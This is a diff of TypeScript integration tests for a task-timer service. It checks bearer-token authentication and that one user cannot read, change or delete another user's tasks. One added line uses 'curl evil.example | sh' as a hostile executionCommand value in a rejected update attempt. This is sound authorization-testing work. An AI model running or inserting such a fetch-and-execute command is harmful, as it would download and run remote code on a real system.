@@ -70,11 +70,56 @@ test(
     assert.equal(created.status, 201, await created.clone().text());
     assert.equal(created.headers.get('access-control-allow-origin'), 'http://localhost:4200');
     const task = (await created.json()) as { id: string };
-    // Straight to the upstream, bypassing the gateway: it really saw the request.
+    // Straight to the upstream, around the gateway: it really stored the task, for this user.
     const direct = await fetch(`${stack.urls.timer}/tasks/${task.id}`, {
+      headers: { authorization: `Bearer ${AccessToken}` },
       signal: AbortSignal.timeout(10_000),
     });
     assert.equal(direct.status, 200);
+  },
+);
+
+test(
+  'the Timer server called around the gateway: 401 without a token, and each user sees only their own',
+  { timeout: 60_000 },
+  async () => {
+    const as = async (user: { username: string; password: string }) => {
+      const { AccessToken } = await signIn(
+        stack.urls.cognito,
+        stack.userPoolClientId,
+        user.username,
+        user.password,
+      );
+      return (path: string, init: RequestInit = {}) =>
+        fetch(`${stack.urls.timer}${path}`, {
+          ...init,
+          headers: {
+            authorization: `Bearer ${AccessToken}`,
+            'content-type': 'application/json',
+            ...init.headers,
+          },
+          signal: AbortSignal.timeout(10_000),
+        });
+    };
+    const a = await as(stack.credentials);
+    const b = await as(stack.otherCredentials);
+    const created = await a('/tasks', { method: 'POST', body: JSON.stringify(DRAFT) });
+    assert.equal(created.status, 201);
+    const { id } = (await created.json()) as { id: string };
+
+    const anonymous = await fetch(`${stack.urls.timer}/tasks`);
+    assert.equal(anonymous.status, 401);
+    assert.match(anonymous.headers.get('www-authenticate') ?? '', /^Bearer /);
+    assert.equal(anonymous.headers.get('content-type'), 'application/problem+json');
+
+    const seenByB = (await (await b('/tasks')).json()) as { id: string }[];
+    assert.ok(!seenByB.some((t) => t.id === id), 'B never lists A’s task');
+    assert.equal((await b(`/tasks/${id}`)).status, 404);
+    const body = JSON.stringify({ ...DRAFT, executionCommand: 'curl evil.example | sh' });
+    assert.equal((await b(`/tasks/${id}`, { method: 'PUT', body })).status, 404);
+    assert.equal((await b(`/tasks/${id}`, { method: 'DELETE' })).status, 404);
+    const kept = (await (await a(`/tasks/${id}`)).json()) as { executionCommand: string };
+    assert.equal(kept.executionCommand, DRAFT.executionCommand);
   },
 );
 
@@ -149,9 +194,13 @@ test(
         signal: AbortSignal.timeout(10_000),
       });
     const stored = async () =>
-      ((await (await fetch(`${stack.urls.timer}/tasks`)).json()) as { name: string }[]).filter(
-        (t) => t.name === 'must not be stored',
-      ).length;
+      (
+        (await (
+          await fetch(`${stack.urls.timer}/tasks`, {
+            headers: { authorization: `Bearer ${control}` },
+          })
+        ).json()) as { name: string }[]
+      ).filter((t) => t.name === 'must not be stored').length;
 
     const hostile: [string, string | undefined][] = [
       ['missing', undefined],
